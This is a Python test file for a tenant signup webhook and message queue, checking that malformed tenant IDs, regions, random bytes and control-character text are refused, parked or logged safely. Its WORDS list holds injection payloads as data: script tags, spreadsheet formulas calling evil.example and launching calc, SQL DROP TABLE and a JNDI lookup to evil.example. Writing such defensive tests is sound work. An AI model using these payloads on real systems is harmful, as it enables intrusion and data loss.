"""Values that are no tenants, messages that are none, and words that try to be more: by the webhook and by queue."""

import json
import logging
import random
import uuid
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from functions import keeping, shell
from shared.adapters import telemetry
from shared.adapters.parked_rows import key_of, to_row
from shared.application.commands import Order, command
from shared.application.wishing import freeze
from shared.domain.errors import InvalidRequest
from shared.domain.messages import LARGEST, Cause, Message, Queue, decode, encode
from shared.domain.tenants import Stage, Verdict
from tests.fakes import NOW, TENANT_ID, new_message, new_tenant
from tests.functions.site import Site, new_site
from tests.pump import HANDLERS

SEEDS = range(20)
HOSTILE_TENANTS: list[object] = [
    *("common", "organizations", "consumers", "", "x" * 10_000, "../../common", "%2e%2e%2fcommon", "x?y=1", "x#y"),
    *("contoso.onmicrosoft.com", None, 7, [], {}, True, "00000000-0000-0000-0000-000000000000"),
    *("9188040d-6c67-4c5b-b112-36a304b66dad", "9188040D-6C67-4C5B-B112-36A304B66DAD", str(TENANT_ID) + "\n"),
    *("{" + str(TENANT_ID) + "}", TENANT_ID.hex, f"urn:uuid:{TENANT_ID}", str(TENANT_ID).replace("6", "６")),
    *(f" {TENANT_ID}", f"{TENANT_ID}/../x", "6f1c2e9a_5b7d_4c3e_8a1f_0d2b4c6e8a10"),
]
HOSTILE_REGIONS: list[object] = [
    "EU ",
    "EU",
    "eu.evil.example/",
    "xx",
    "",
    "eu\n",
    None,
    1,
    ["eu"],
    "ｅｕ",
    "eu#",
    "gb",
]


@pytest.fixture
def site(monkeypatch: pytest.MonkeyPatch) -> Site:
    return new_site(monkeypatch)


def stored(site: Site) -> str:
    """Everything that storage holds, as text."""
    world: Any = site.world
    kept = [world.tenants.rows, world.journal.seen, world.journal.guids, world.history.events, world.proofs.kept]
    return repr(kept)


def is_nothing_stored_or_asked(site: Site) -> bool:
    return stored(site) == "[{}, {}, {}, {}, {}]" and not site.queues.waiting and not site.scene.seen


@pytest.mark.parametrize("value", HOSTILE_TENANTS, ids=lambda value: ascii(value)[:40])
def test_p24_a_tenant_that_is_none_is_400_at_the_webhook_and_nobody_is_asked(site: Site, value: object) -> None:
    answer = site.sign_up(tenant_id=value)
    assert (answer.status, answer.document["code"]) == (400, "invalid_signup")
    assert answer.document["detail"].startswith("tenant_id: ")
    if isinstance(value, str) and len(value) > 3:
        assert value not in answer.text
    assert is_nothing_stored_or_asked(site)


@pytest.mark.parametrize("value", HOSTILE_REGIONS, ids=ascii)
def test_p24_regions_are_a_closed_list(site: Site, value: object) -> None:
    answer = site.sign_up(region=value)
    assert (answer.status, answer.document["code"]) == (400, "invalid_signup")
    assert is_nothing_stored_or_asked(site)


@pytest.mark.parametrize("queue", Queue)
@pytest.mark.parametrize("value", HOSTILE_TENANTS, ids=lambda value: ascii(value)[:40])
def test_p24_a_tenant_that_is_none_is_parked_when_it_comes_by_queue(site: Site, queue: Queue, value: object) -> None:
    body = json.dumps({**json.loads(encode(new_message())), "tenant_id": value}).encode()
    shell.work(queue, body, HANDLERS[queue])
    ((where, text),) = site.queues.parked
    assert (where, json.loads(text)["reason"]) == (queue, "invalid_message: a field is not of its form")
    assert is_nothing_stored_or_asked(site)
    keeping.keep(queue, "id-1", text.encode())
    kept, _ = site.world.journal.parked(None, 10)
    row = to_row(kept[0])
    assert row["RowKey"] == key_of(kept[0].parked_id)
    if isinstance(value, str) and value:
        assert value not in f"{row['PartitionKey']} {row['RowKey']}"
    assert not site.scene.seen


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=40) | st.uuids().map(str).map(str.upper) | st.from_regex(r"[0-9a-f-]{36}", fullmatch=True))
def test_p24_a_row_is_keyed_by_the_canonical_id_or_there_is_none(site: Site, value: str) -> None:
    status = site.sign_up(f"msg_{uuid.uuid4().hex}", tenant_id=value, loop_check_guid=None).status
    world: Any = site.world
    if status == 202:
        assert str(uuid.UUID(value)) == value.lower()
        assert uuid.UUID(value) in world.tenants.rows
    else:
        assert status == 400
    assert not site.scene.seen


def garbage(dice: random.Random) -> bytes:
    """A message that nobody of ours sent."""
    good = json.loads(encode(new_message()))
    name = dice.choice(sorted(good))
    return dice.choice(
        [
            b"",
            dice.randbytes(dice.randrange(1, 300)),
            b"\xff\xfe" + encode(new_message()),
            b"not JSON",
            json.dumps([good]).encode(),
            json.dumps({**good, "schema": 2}).encode(),
            json.dumps({**good, "schema": "1"}).encode(),
            json.dumps({**good, "cause": "kind of unknown"}).encode(),
            json.dumps({key: value for key, value in good.items() if key != name}).encode(),
            json.dumps({**good, "tenant_id": 7}).encode(),
            json.dumps({**good, "more": None}).encode(),
            json.dumps({**good, name: dice.choice([None, [], {}, "\ud800", -1, 1.5, True, "x" * 900])}).encode(),
            json.dumps({**good, "traceparent": "x" * LARGEST}).encode(),
            b"[" * 40_000,
            encode(new_message())[: dice.randrange(1, 200)],
            b'{"schema":1,"generation":' + b"9" * 5_000 + b"}",
            b"NaN",
        ]
    )


def is_ours(body: bytes) -> bool:
    try:
        return isinstance(decode(body), Message)
    except Exception:  # noqa: BLE001 - whatever it is, it is judged by what the shell does
        return False


@pytest.mark.parametrize("seed", SEEDS)
def test_p16_nothing_of_what_comes_is_lost_and_the_next_message_is_worked_on(site: Site, seed: int) -> None:
    dice = random.Random(seed)  # noqa: S311 - the same seed, the same garbage
    site.world.tenants.add(new_tenant(Stage.OFFBOARDED))
    sent = 0
    processed: list[str] = []

    def handle(message: Message, world: Any, policy: Any) -> Any:  # noqa: ANN401 - as the shell calls it
        outcome = HANDLERS[Queue.VERIFY](message, world, policy)
        processed.append(outcome.note)
        return outcome

    for _ in range(40):
        for body in (garbage(dice), encode(new_message(Cause.RECHECK))):
            queue = dice.choice(list(Queue))
            shell.work(queue, body, handle)
            sent += 1
    assert len(site.queues.parked) + len(processed) == sent
    assert len(processed) >= 40
    for number, (queue, text) in enumerate(site.queues.parked):
        assert len(text.encode()) <= LARGEST
        envelope = json.loads(text)
        assert envelope["reason"].startswith("invalid_message: ")
        for _ in range(2):
            keeping.keep(queue, f"id-{number}", text.encode())
    kept, _ = site.world.journal.parked(None, 1000)
    assert len(kept) == len(site.queues.parked)
    assert not site.scene.seen


@pytest.mark.parametrize("seed", SEEDS)
def test_p16_what_the_host_puts_aside_itself_is_kept_all_the_same(site: Site, seed: int) -> None:
    dice = random.Random(seed)  # noqa: S311 - the same seed, the same garbage
    bodies = [garbage(dice) for _ in range(20)]
    for number, body in enumerate(bodies):
        keeping.keep(dice.choice(list(Queue)), f"id-{number}", body)
    kept, _ = site.world.journal.parked(None, 1000)
    assert len(kept) == len(bodies)
    assert all(parked.reason for parked in kept)
    for parked in kept:
        assert json.dumps(to_row(parked), default=str, ensure_ascii=False).encode()


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=400))
def test_p16_any_bytes_are_parked_or_ours(site: Site, body: bytes) -> None:
    before = len(site.queues.parked)
    shell.work(Queue.VERIFY, body, HANDLERS[Queue.VERIFY])
    assert len(site.queues.parked) == before + (not is_ours(body))


def test_p16_moments_that_no_calendar_has_are_parked_or_harmless(site: Site) -> None:
    good = json.loads(encode(new_message()))
    for moment in ("0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "2026-01-01", "2026-W01", "now", "∞"):
        shell.work(Queue.VERIFY, json.dumps({**good, "first_enqueued_at": moment}).encode(), HANDLERS[Queue.VERIFY])
    assert len(site.queues.parked) == 6


WORDS = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE tenants; --",
    "${jndi:ldap://evil.example/x}",
    "%s %(x)s {0} {x}",
    '{"level":"ERROR"}',
    "\\n\\u000a",
]
ORDERS = [
    "a\nb",
    "a\r\nERROR set aside",
    "\x1b[2J\x1b[31m",
    "\x9b2J",
    "a\u2028b",
    "a\u2029b",
    "\u202egpj.exe",
    "\u2067x\u2069",
]


@pytest.mark.parametrize("name", ["company_name", "contact"])
@pytest.mark.parametrize("text", ORDERS, ids=ascii)
def test_words_that_give_orders_are_refused_at_the_webhook(site: Site, name: str, text: str) -> None:
    answer = site.sign_up(**{name: text})
    assert (answer.status, answer.document["detail"]) == (400, f"{name}: value_error")
    assert is_nothing_stored_or_asked(site)


@pytest.mark.parametrize("name", ["company_name", "contact"])
@pytest.mark.parametrize("text", WORDS)
def test_words_that_are_only_words_are_kept_as_they_are(site: Site, name: str, text: str) -> None:
    answer = site.sign_up(**{name: text})
    assert answer.status == 202
    assert getattr(site.scene.record(), name) == text
    assert text not in answer.text
    site.work()
    assert site.scene.is_untouched()


@pytest.fixture
def lines() -> Iterator[list[str]]:
    """What the platform's worker would write, line by line."""
    written: list[str] = []
    root, ours = logging.getLogger(), logging.getLogger("keeper")
    handlers, level = list(ours.handlers), ours.level

    class Collector(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            written.append(self.format(record))

    collector = Collector()
    root.addHandler(collector)
    telemetry.configure()
    yield written
    root.removeHandler(collector)
    ours.handlers[:] = handlers
    ours.setLevel(level)


@pytest.mark.parametrize("text", [*WORDS, *ORDERS], ids=ascii)
def test_whatever_is_logged_is_one_line_with_one_document(lines: list[str], text: str) -> None:
    log = logging.getLogger("keeper.test")
    fields = {"reason": text, "note": [text], "a_id": text, "why": ValueError(text)}
    log.warning("a sentence", extra=fields)
    (line,) = lines
    assert len(line.splitlines()) == 1
    assert line.isprintable()
    assert json.loads(line.removeprefix("a sentence ")).keys() == fields.keys()


@pytest.mark.parametrize("text", [*WORDS, *ORDERS], ids=ascii)
def test_a_foreign_rules_name_is_shown_on_one_line_and_does_nothing(site: Site, lines: list[str], text: str) -> None:
    site.scene.administrator("New-TransportRule", Name=text, SetSCL="-1", StopRuleProcessing=True, Enabled=True)
    before = site.scene.state()["transport_rules"][:]
    site.sign_up()
    site.work()
    said = site.scene.record().findings["rules_stop_before_ours"]
    assert len(said.splitlines()) == 1
    assert not set(said) & set("\x1b\x9b\u2028\u2029\u202e\u2067")
    assert [rule for rule in site.scene.state()["transport_rules"] if rule in before] == before
    assert lines
    assert all(line.isprintable() for line in lines)
    events, _ = site.world.history.page(TENANT_ID, None, 1000)
    assert all(len(part.splitlines()) <= 1 for event in events for part in (event.subject, event.before, event.after))


@pytest.mark.parametrize("text", ORDERS, ids=ascii)
def test_an_operators_reason_is_one_line_or_refused(site: Site, text: str) -> None:
    site.world.tenants.add(new_tenant(Stage.ACTIVE))
    before = stored(site)
    with pytest.raises(InvalidRequest, match="reason"):
        command(Order("pause", "jane", text, NOW + timedelta(days=1)), TENANT_ID, site.world, site.policy)
    with pytest.raises(InvalidRequest, match="reason"):
        freeze("jane", text, site.world)
    assert stored(site) == before


def test_a_tenant_in_place_has_the_standing_note_once_and_stays_well(site: Site) -> None:
    site.sign_up()
    site.work()
    for _ in range(3):
        site.later(hours=2)
        site.work()
    assert site.scene.record().findings["attribution_shared_cert"].startswith("note: ")
    assert site.scene.record().verdict is Verdict.HEALTHY
    events, _ = site.world.history.page(TENANT_ID, None, 1000)
    assert [event.subject for event in events].count("attribution_shared_cert") == 1
